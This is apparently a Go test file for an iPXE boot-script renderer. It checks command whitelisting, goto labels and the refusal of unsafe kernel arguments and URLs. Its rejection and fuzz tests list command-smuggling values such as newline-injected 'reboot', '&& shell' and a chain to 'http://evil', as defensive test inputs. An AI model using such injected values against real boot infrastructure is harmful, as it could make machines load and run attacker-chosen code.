package ipxe

import (
	"strings"
	"testing"

	"github.com/better-compute/bcd/app"
)

func good() Ramdisk {
	return Ramdisk{
		Machine: "node1", Kernel: "http://192.0.2.1:8080/boot/kernel",
		Initrds: []string{"http://192.0.2.1:8080/boot/k3y/bootdata.cpio", "http://192.0.2.1:8080/boot/initrd"},
		Cmdline: "console=ttyS0 ds=nocloud;s=x", Script: "http://192.0.2.1:8080/boot/script?mac=00-00-5e-00-53-01",
	}
}

// commands are the words a line of ours may start with.
var commands = map[string]bool{
	"#!ipxe": true, "echo": true, "set": true, "imgfree": true, "kernel": true, "initrd": true, "boot": true, "inc": true,
	"sleep": true, "iseq": true, "chain": true, "goto": true, "exit": true, "sanboot": true, "autoboot": true,
}

func checkCommands(t *testing.T, script string) {
	t.Helper()
	if strings.Contains(script, "net0") {
		t.Error("the script names net0: a machine may have booted from another port")
	}
	for _, line := range strings.Split(strings.TrimSuffix(script, "\n"), "\n") {
		first, _, _ := strings.Cut(line, " ")
		if !commands[first] && !strings.HasPrefix(line, ":") {
			t.Errorf("line %q starts with an unknown command", line)
		}
	}
}

func TestRamdiskScript(t *testing.T) {
	s, err := good().Render()
	if err != nil {
		t.Fatal(err)
	}
	checkCommands(t, s)
	checkLabels(t, s)
	for _, want := range []string{
		"kernel --name kernel http://192.0.2.1:8080/boot/kernel initrd=0-bootdata.cpio initrd=1-initrd console=ttyS0 ds=nocloud;s=x || goto again\n",
		"initrd --name 0-bootdata.cpio http://192.0.2.1:8080/boot/k3y/bootdata.cpio || goto again\ninitrd --name 1-initrd http://192.0.2.1:8080/boot/initrd || goto again\n",
		"chain --replace --autofree http://192.0.2.1:8080/boot/script?mac=00-00-5e-00-53-01 ||\n",
	} {
		if !strings.Contains(s, want) {
			t.Errorf("missing %q in\n%s", want, s)
		}
	}
}

func goodISO() ISO {
	return ISO{Machine: "node1", URL: "http://192.0.2.1:8080/iso/k3y/image.iso", Script: "http://192.0.2.1:8080/boot/script?mac=00-00-5e-00-53-01"}
}

func TestISOScript(t *testing.T) {
	s, err := goodISO().Render()
	if err != nil {
		t.Fatal(err)
	}
	checkCommands(t, s)
	for _, want := range []string{
		":load\nsanboot --no-describe --drive 0xe0 http://192.0.2.1:8080/iso/k3y/image.iso || goto again\n", // the machine's own disks keep 0x80 and up
		"iseq ${tries} 3 || goto load\n",
		"chain --replace --autofree http://192.0.2.1:8080/boot/script?mac=00-00-5e-00-53-01 ||\n",
	} {
		if !strings.Contains(s, want) {
			t.Errorf("missing %q in\n%s", want, s)
		}
	}
	checkLabels(t, s)
}

// checkLabels holds that each goto has its label.
func checkLabels(t *testing.T, script string) {
	t.Helper()
	words := strings.Fields(script)
	for i, w := range words[:len(words)-1] {
		if w == "goto" && !strings.Contains(script, "\n:"+words[i+1]+"\n") {
			t.Errorf("goto %s has no label in\n%s", words[i+1], script)
		}
	}
}

func TestOtherScripts(t *testing.T) {
	w, err := Wait("http://192.0.2.1/boot/script?mac=x")
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range []string{Disk(), w, Autoexec()} {
		checkCommands(t, s)
	}
}

// Case 29: whatever is accepted as kernel arguments can be rendered, and stays on its line; what cannot is refused where it is
// typed, and not when a machine waits for its script.
func TestAcceptedKernelArgumentsAreRendered(t *testing.T) {
	for args, ok := range map[string]bool{
		"": true, "quiet": true, "iommu=pt console=ttyS1,115200n8": true, "a&&b": true, "x=a;b": true, "rd.luks=#1 x#y": true, "x#y a|b": true, "é=ü": true,
		"a\nreboot": false, "a\r\nb": false, "${net0/mac}": false, "a && shell": false, "|| ": false, "quiet ; shell": false, "quiet #": false, "#": false,
		strings.Repeat("x", 1025): false,
	} {
		r := good()
		r.Cmdline = "console=ttyS0 " + args
		s, err := r.Render()
		accepted := app.ValidKernelArgs("kernelArgs", args) == nil
		if accepted && (err != nil || strings.Count(s, "\n") != strings.Count(must(t, good()), "\n")) {
			t.Errorf("%q is accepted and rendered as %q, %v", args, s, err)
		}
		if accepted != ok {
			t.Errorf("%q: accepted %v, want %v", args, accepted, ok)
		}
	}
}

func must(t *testing.T, r Ramdisk) string {
	t.Helper()
	s, err := r.Render()
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// Case 29.
func TestFieldsThatWouldBreakOutAreRefused(t *testing.T) {
	for _, bad := range []string{
		"a\nreboot", "x\nchain http://evil", "a\r\nshell", "${net0/mac}", "a && shell", "|| shell", "a ; shell", "# comment",
		"a #x", "tab\x00", "line\u2028sep", strings.Repeat("x", 3000),
	} {
		for name, change := range map[string]func(*Ramdisk){
			"machine": func(r *Ramdisk) { r.Machine = bad }, "cmdline": func(r *Ramdisk) { r.Cmdline = bad },
			"kernel": func(r *Ramdisk) { r.Kernel = bad }, "initrd": func(r *Ramdisk) { r.Initrds[0] = "http://192.0.2.1/" + bad },
			"script": func(r *Ramdisk) { r.Script = bad },
		} {
			r := good()
			change(&r)
			if s, err := r.Render(); err == nil {
				t.Errorf("%s %q was rendered:\n%s", name, bad, s)
			} else if _, ok := app.AsError(err); !ok {
				t.Errorf("%s %q: %v is no *app.Error", name, bad, err)
			}
		}
		for name, change := range map[string]func(*ISO){
			"machine": func(i *ISO) { i.Machine = bad }, "url": func(i *ISO) { i.URL = "http://192.0.2.1/" + bad }, "script": func(i *ISO) { i.Script = bad },
		} {
			i := goodISO()
			change(&i)
			if s, err := i.Render(); err == nil {
				t.Errorf("ISO: %s %q was rendered:\n%s", name, bad, s)
			}
		}
	}
}

func FuzzScript(f *testing.F) {
	f.Add("node1", "console=ttyS0")
	f.Add("a\nb", "${x} && y")
	f.Fuzz(func(t *testing.T, machine, cmdline string) {
		plain, _ := good().Render()
		r := good()
		r.Machine, r.Cmdline = machine, cmdline
		s, err := r.Render()
		if err != nil {
			return
		}
		if strings.Count(s, "\n") != strings.Count(plain, "\n") || strings.Count(s, "${") != strings.Count(plain, "${") {
			t.Fatalf("a field changed the script's shape:\n%s", s)
		}
		checkCommands(t, s)
	})
}
